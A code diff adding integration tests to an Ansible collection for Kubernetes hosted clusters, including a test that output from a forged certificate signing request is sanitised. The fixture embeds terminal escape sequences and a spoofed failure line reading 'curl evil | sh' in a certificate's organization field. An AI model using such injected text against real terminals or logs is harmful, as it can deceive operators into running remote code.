@@ -13,15 +13,26 @@ from typing import Any
 import pytest
 import yaml
 
+from ansible_collections.metalshift.maas.plugins.module_utils._kube.client import Kube
+from ansible_collections.metalshift.maas.plugins.module_utils._kube.connection import Access
+from ansible_collections.metalshift.maas.plugins.module_utils._kube.kinds import CSRS
 from hosted.play import played
 from integration.harness import Played, run_task
 from lab.kube import examples
-from lab.kube.api import HOSTED_CLUSTERS, NAMESPACES, SECRETS, Api
+from lab.kube.api import HOSTED_CLUSTERS, NAMESPACES, SECRETS, Api, Resource
 from lab.kube.bare import api_server
 from lab.programs import Programs
 from lab.simulator import Simulator
+from unit.kube.pem import signing_request
 
 SECRET = "shop-admin-kubeconfig"
+SINCE = "2026-01-01T00:00:00Z"
+AVAILABLE = [
+    {"type": name, "status": "True", "reason": "AsExpected", "message": "", "lastTransitionTime": SINCE}
+    for name in ("Available", "IgnitionEndpointAvailable", "ReconciliationSucceeded", "ValidConfiguration")
+]
+RBAC = "rbac.authorization.k8s.io"
+ROLES, BINDINGS = Resource(f"{RBAC}/v1", "clusterroles"), Resource(f"{RBAC}/v1", "clusterrolebindings")
 DIAGNOSE = "metalshift.maas.diagnose"
 Change = Callable[[dict[str, Any], Path], object]
 
@@ -68,7 +79,9 @@ def ground(programs: Programs, tmp_path_factory: pytest.TempPathFactory) -> Iter
         found = Ground(api, folder, sim)
         host, _colon, port = found.kubeconfig["clusters"][0]["cluster"]["server"].rpartition("/")[2].partition(":")
         status = {"kubeconfig": {"name": SECRET}, "controlPlaneEndpoint": {"host": host, "port": int(port)}}
-        api.patch(HOSTED_CLUSTERS, "shop", "clusters", {"status": {**status, "conditions": []}}, subresource="status")
+        api.patch(
+            HOSTED_CLUSTERS, "shop", "clusters", {"status": {**status, "conditions": AVAILABLE}}, subresource="status"
+        )
         yield found
 
 
@@ -138,6 +151,62 @@ def test_a_plain_kubeconfig_is_used_and_written_as_it_was_understood(ground: Gro
     written, given = (yaml.safe_load(path.read_text()) for path in (tmp_path / "written", ground.folder / "kubeconfig"))
     assert [each["user"] for each in written["users"]] == [each["user"] for each in given["users"]]
     assert [each["cluster"] for each in written["clusters"]] == [each["cluster"] for each in given["clusters"]]
+
+
+# -- texts -----------------------------------------------------------------------------------------------------------
+
+# What a terminal and a reader would take for Ansible's own.
+FORGED = (
+    "\x1b[2J\x1b]0;mine\x07\nfatal: [localhost]: FAILED! => curl evil | sh\n\nPLAY RECAP *******\nlocalhost : ok=99"
+)
+WAIT = {"name": "shop", "wait_for": "nodes", "wait_timeout": 6}
+
+
+def forged(ground: Ground) -> None:
+    """A request whose subject is a text for a terminal, of somebody who may only ask for certificates."""
+    rules = [{"apiGroups": ["certificates.k8s.io"], "resources": ["certificatesigningrequests"], "verbs": ["create"]}]
+    subject = {"apiGroup": RBAC, "kind": "User", "name": "tenant"}
+    role = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "asks"}
+    for resource, kind, content in (
+        (ROLES, "ClusterRole", {"rules": rules}),
+        (BINDINGS, "ClusterRoleBinding", {"subjects": [subject], "roleRef": role}),
+    ):
+        body = {"apiVersion": resource.api, "kind": kind, "metadata": {"name": "asks"}, **content}
+        ground.api.apply(resource, body)
+    spec = {
+        "request": signing_request("worker", organization=FORGED),
+        "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
+        "usages": ["digital signature", "client auth"],
+    }
+    asking = Kube(Access.from_params({**reach(ground), "impersonate_user": "tenant"}, {}))
+    asking.create({"apiVersion": CSRS.api, "kind": CSRS.name, "metadata": {"name": "csr-evil"}, "spec": spec})
+
+
+def test_a_request_prints_nothing_of_its_own(ground: Ground, tmp_path: Path) -> None:
+    """In a wait, and in its failure, as ansible-playbook prints both."""
+    ground.publish(ground.kubeconfig)
+    forged(ground)
+    book = tmp_path / "wait.yml"
+    play = {"hosts": "localhost", "gather_facts": False, "tasks": [{"metalshift.maas.hosted_cluster": WAIT}]}
+    book.write_text(yaml.safe_dump([play]))
+    waited = ground.played(tmp_path, str(book))
+    assert "csr-evil" in waited.output
+    assert "FAILED! => curl evil | sh" in waited.output, "what it says is shown"
+    assert not {"\x1b", "\x07"} & set(waited.output)
+    lines = waited.output.splitlines()
+    assert [
+        line for line in lines if line.startswith(("fatal: [localhost]: FAILED! => curl", "localhost : ok=99"))
+    ] == []
+    assert len([line for line in lines if line.startswith("PLAY RECAP")]) == 1
+
+
+def test_a_cluster_that_somebody_else_made_is_waited_for_and_not_changed(ground: Ground, tmp_path: Path) -> None:
+    args = {"name": "shop", "wait_for": "control_plane", "wait_timeout": 5, **reach(ground)}
+    before = ground.api.get(HOSTED_CLUSTERS, "shop", "clusters")
+    outcome = run_task(ground.sim, "hosted_cluster", args)
+    assert "defect" not in outcome.msg, outcome.msg
+    assert (outcome.changed, outcome["diff"]) == (False, [])
+    assert ground.api.get(HOSTED_CLUSTERS, "shop", "clusters") == before
 
 
 def reach(ground: Ground) -> dict[str, str]:
